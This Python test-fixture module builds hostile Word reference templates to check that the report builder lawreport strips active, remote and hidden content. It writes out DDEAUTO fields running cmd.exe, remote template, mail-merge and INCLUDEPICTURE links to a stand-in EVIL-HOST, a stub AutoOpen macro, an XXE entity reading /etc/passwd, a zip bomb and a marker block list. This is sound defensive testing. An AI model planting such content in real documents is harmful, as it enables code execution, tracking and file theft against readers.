"""Hostile Word templates (a workspace's templates/reference.docx), made from lawreport's own.

Each function takes the workspace root (unused: the template is lawreport's default) and returns
the bytes of a reference.docx that tries to plant active, remote or hidden content in every report,
or to break the build. Names are chosen so that the tests can grep the built report for them.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

REFERENCE = Path(__file__).resolve().parents[2] / "templates" / "reference.docx"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MARKERS = (b"EVIL-HOST", b"attacker", b"INCLUDEPICTURE", b"INCLUDETEXT", b"DDEAUTO", b"OLEObject", b"oleObject",
           b"activeX", b"DOCVAR-SECRET", b"attachedTemplate", b"mailMerge", b"frameset", b"vbaProject",
           b"TargetMode", b"numPicBullet", b"PICTURE-BULLET", b"control", b"HIDDEN-FOOTER", b"vanish", b"webHidden",
           b"specVanish")
"""Fragments none of which may appear anywhere in a report built with one of these templates."""


def _parts() -> dict[str, bytes]:
    with zipfile.ZipFile(REFERENCE) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _mark_encrypted(data: bytes, member: str) -> bytes:
    """``data`` with ``member`` flagged as encrypted (general-purpose bit 0), as a password-protected
    member is, in its local header and in the central directory."""
    out = bytearray(data)
    name = member.encode()
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        length = int.from_bytes(out[at + 28:at + 30], "little")
        if out[at + 46:at + 46 + length] == name:
            out[at + 8] |= 0x1
            local = int.from_bytes(out[at + 42:at + 46], "little")
            out[local + 6] |= 0x1
        at = out.find(b"PK\x01\x02", at + 46)
    return bytes(out)


def _rel(ident: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{ident}" Type="{REL}{kind}" Target="{target}"{mode}/>'.encode()


def _add_rels(parts: dict[str, bytes], name: str, *rels: bytes) -> None:
    existing = parts.get(name, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                                    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    parts[name] = existing.replace(b"</Relationships>", b"".join(rels) + b"</Relationships>")


def _edit(member: str, old: bytes, new: bytes, parts: dict[str, bytes]) -> None:
    assert old in parts[member], (member, old)
    parts[member] = parts[member].replace(old, new, 1)


def settings_links(root: Path | None = None) -> bytes:
    """attachedTemplate (open/close form, another prefix), mailMerge over http, docVars, webSettings frames."""
    parts = _parts()
    _edit("word/settings.xml", b"<w:zoom", (
        f'<ns9:attachedTemplate xmlns:ns9="{W_NS}" xmlns:rr="{R_NS}" rr:id="rIdTpl"></ns9:attachedTemplate>'
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=EVIL-HOST"/><w:dataSource r:id="rIdMM" xmlns:r="'
        f'{R_NS}"/></w:mailMerge><w:zoom').encode(), parts)
    _edit("word/settings.xml", b"</w:settings>",
          b'<w:docVars><w:docVar w:name="oa" w:val="DOCVAR-SECRET"/></w:docVars></w:settings>', parts)
    _add_rels(parts, "word/_rels/settings.xml.rels",
              _rel("rIdTpl", "attachedTemplate", "https://EVIL-HOST/Normal.dotm", True),
              _rel("rIdMM", "mailMergeSource", "http://EVIL-HOST/data.mdb", True))
    parts["word/webSettings.xml"] = (
        f'<w:webSettings xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:frameset><w:frame><w:sourceFileName r:id="rIdF"/>'
        '</w:frame></w:frameset></w:webSettings>').encode()
    _add_rels(parts, "word/_rels/webSettings.xml.rels", _rel("rIdF", "frame", "http://EVIL-HOST/frame.html", True))
    _add_rels(parts, "word/_rels/document.xml.rels", _rel("rId40", "webSettings", "webSettings.xml"))
    return _zip(parts)


def footer_active(root: Path | None = None) -> bytes:
    """A footer with an embedded OLE package, an ActiveX control, linked OLE over http, INCLUDEPICTURE,
    INCLUDETEXT and DDEAUTO fields, a remote image and an external hyperlink; its page number stays."""
    parts = _parts()
    v = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    hostile = (
        f'<w:r><w:object {v}><v:shape id="s1"/><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r>'
        f'<w:r><w:object {v}><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="rIdLink" UpdateMode="Always"/></w:object></w:r>'
        '<w:r><w:control r:id="rIdAx" w:name="activeX1"/></w:r>'
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://EVIL-HOST/p.png&quot; \\d "><w:r><w:t>img</w:t></w:r></w:fldSimple>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT '
        '"\\\\\\\\attacker\\\\share\\\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>INCLUDED-RESULT</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'
        ' "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><a:blip r:link="rIdImg"/>'
        '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
        '<w:hyperlink r:id="rIdHref"><w:r><w:t>LINK-TEXT</w:t></w:r></w:hyperlink>')
    _edit("word/footer1.xml", b"</w:p></w:ftr>", hostile.encode() + b"</w:p></w:ftr>", parts)
    _add_rels(parts, "word/_rels/footer1.xml.rels",
              _rel("rIdOle", "package", "embeddings/oleObject1.bin"),
              _rel("rIdLink", "oleObject", "http://EVIL-HOST/book.xlsx", True),
              _rel("rIdAx", "control", "activeX/activeX1.xml"),
              _rel("rIdImg", "image", "http://EVIL-HOST/track.png", True),
              _rel("rIdHref", "hyperlink", "file://attacker/share", True))
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 OLE payload"
    parts["word/activeX/activeX1.xml"] = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    return _zip(parts)


def other_prefix_footer(root: Path | None = None) -> bytes:
    """The second footer written with another prefix for WordprocessingML, with a DDEAUTO field."""
    parts = _parts()
    text = parts["word/footer2.xml"].decode()
    text = text.replace("w:", "q:").replace("xmlns:w=", "xmlns:q=")
    text = text.replace("</q:p>", '<q:r><q:fldChar q:fldCharType="begin"/></q:r><q:r><q:instrText>DDEAUTO cmd '
                                  '"/c calc"</q:instrText></q:r><q:r><q:fldChar q:fldCharType="end"/></q:r></q:p>')
    parts["word/footer2.xml"] = text.encode()
    return _zip(parts)


def picture_bullets(root: Path | None = None) -> bytes:
    """Numbering with a picture bullet linked to a remote image."""
    parts = _parts()
    parts["word/numbering.xml"] = (
        f'<w:numbering xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:v="urn:schemas-microsoft-com:vml">'
        '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape><v:imagedata r:id="rIdPic" o:title="PICTURE-BULLET" '
        'xmlns:o="urn:schemas-microsoft-com:office:office"/></v:shape></w:pict></w:numPicBullet>'
        '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/>'
        '<w:lvlText w:val="x"/><w:lvlPicBulletId w:val="0"/><w:lvlJc w:val="left"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>').encode()
    _add_rels(parts, "word/_rels/numbering.xml.rels", _rel("rIdPic", "image", "http://EVIL-HOST/bullet.png", True))
    _add_rels(parts, "word/_rels/document.xml.rels", _rel("rId41", "numbering", "numbering.xml"))
    _edit("[Content_Types].xml", b"</Types>", b'<Override PartName="/word/numbering.xml" ContentType="application/'
          b'vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml"/></Types>', parts)
    return _zip(parts)


def macro_template(root: Path | None = None) -> bytes:
    """A .docm saved as reference.docx: a VBA project related from the main document."""
    parts = _parts()
    _edit("[Content_Types].xml", b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
          b"application/vnd.ms-word.document.macroEnabled.main+xml", parts)
    _edit("[Content_Types].xml", b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
          b'vbaProject"/></Types>', parts)
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Sub AutoOpen() Shell EVIL-HOST"
    _add_rels(parts, "word/_rels/document.xml.rels",
              b'<Relationship Id="rId42" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
              b'Target="vbaProject.bin"/>')
    return _zip(parts)


def doctype_footer(root: Path | None = None) -> bytes:
    parts = _parts()
    _edit("word/footer1.xml", b"<w:ftr", b'<!DOCTYPE w:ftr [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:ftr', parts)
    return _zip(parts)


def gbk_styles(root: Path | None = None) -> bytes:
    parts = _parts()
    text = parts["word/styles.xml"].decode().replace('encoding="UTF-8"', 'encoding="GBK"')
    parts["word/styles.xml"] = text.encode("gbk")
    return _zip(parts)


def encrypted_member(root: Path | None = None) -> bytes:
    return _mark_encrypted(_zip(_parts()), "word/styles.xml")


def zip_bomb(root: Path | None = None) -> bytes:
    parts = _parts()
    parts["word/media/bomb.bin"] = bytes(60 * 1024 * 1024)
    return _zip(parts)


def theme_and_fonts(root: Path | None = None) -> bytes:
    """A theme whose background fill is a remote image, with an extension list; an embedded (obfuscated) font."""
    parts = _parts()
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    parts["word/theme/theme1.xml"] = (
        f'<a:theme xmlns:a="{a}" xmlns:r="{R_NS}" name="Office"><a:themeElements><a:clrScheme name="x"><a:dk1>'
        '<a:sysClr val="windowText" lastClr="000000"/></a:dk1></a:clrScheme><a:fontScheme name="x"><a:majorFont>'
        '<a:latin typeface="Calibri"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont>'
        '<a:latin typeface="Calibri"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme>'
        '<a:fmtScheme name="x"><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'
        '<a:blipFill><a:blip r:link="rIdBg"/><a:stretch/></a:blipFill></a:bgFillStyleLst></a:fmtScheme>'
        '</a:themeElements><a:extLst><a:ext uri="{05A4C25C-085E-4340-85A3-A5531E510DB2}"><thm15:themeFamily '
        'xmlns:thm15="http://schemas.microsoft.com/office/thememl/2012/main" name="EVIL-HOST"/></a:ext></a:extLst>'
        '</a:theme>').encode()
    _add_rels(parts, "word/theme/_rels/theme1.xml.rels", _rel("rIdBg", "image", "http://EVIL-HOST/bg.png", True))
    _add_rels(parts, "word/_rels/document.xml.rels", _rel("rId43", "theme", "theme/theme1.xml"))
    _edit("word/fontTable.xml", b"</w:font></w:fonts>", (
        f'<w:embedRegular xmlns:r="{R_NS}" r:id="rIdFont" w:fontKey="{{00000000-0000-0000-0000-000000000000}}"/>'
        '</w:font></w:fonts>').encode(), parts)
    _add_rels(parts, "word/_rels/fontTable.xml.rels", _rel("rIdFont", "font", "fonts/font1.odttf"))
    parts["word/fonts/font1.odttf"] = b"\x00FONT EVIL-HOST"
    _edit("[Content_Types].xml", b"</Types>", b'<Override PartName="/word/theme/theme1.xml" ContentType="application/'
          b'vnd.openxmlformats-officedocument.theme+xml"/></Types>', parts)
    return _zip(parts)


def hidden_footer(root: Path | None = None) -> bytes:
    """A footer with hidden runs (vanish, webHidden, a hidden paragraph mark), a character style that hides,
    and page fields whose code goes on after PAGE (INCLUDETEXT/INCLUDEPICTURE of an address)."""
    parts = _parts()
    hostile = (
        '<w:r><w:rPr><w:vanish/></w:rPr><w:t>HIDDEN-FOOTER-1</w:t></w:r>'
        '<w:r><w:rPr><w:b/><w:webHidden w:val="true"/></w:rPr><w:t>HIDDEN-FOOTER-2</w:t></w:r>'
        '<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>SHOWN-FOOTER</w:t></w:r>'
        '<w:r><w:rPr><w:rStyle w:val="HideMe"/></w:rPr><w:t>STYLED-FOOTER</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE \\* MERGEFORMAT '
        'INCLUDETEXT "http://EVIL-HOST/a.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:instrText> INCLUDEPICTURE http://EVIL-HOST/b.png </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple w:instr=" NUMPAGES \\* &quot;http://EVIL-HOST/c&quot; "><w:r><w:t>9</w:t></w:r></w:fldSimple>')
    _edit("word/footer1.xml", b"</w:p></w:ftr>", hostile.encode() + b"</w:p></w:ftr>", parts)
    _edit("word/footer1.xml", b'<w:jc w:val="right"/></w:pPr>', b'<w:jc w:val="right"/><w:rPr><w:specVanish/></w:rPr></w:pPr>',
          parts)
    _edit("word/styles.xml", b"</w:styles>", b'<w:style w:type="character" w:styleId="HideMe"><w:name w:val="HideMe"/>'
          b'<w:rPr><w:vanish/></w:rPr></w:style></w:styles>', parts)
    return _zip(parts)


HOSTILE: dict[str, Callable[[Path | None], bytes]] = {
    "theme": theme_and_fonts,
    "settings": settings_links, "footer": footer_active, "prefix": other_prefix_footer,
    "bullets": picture_bullets, "macro": macro_template, "hidden": hidden_footer,
}
"""Templates that build (exit 0) with their hostile content left out and named in a note."""
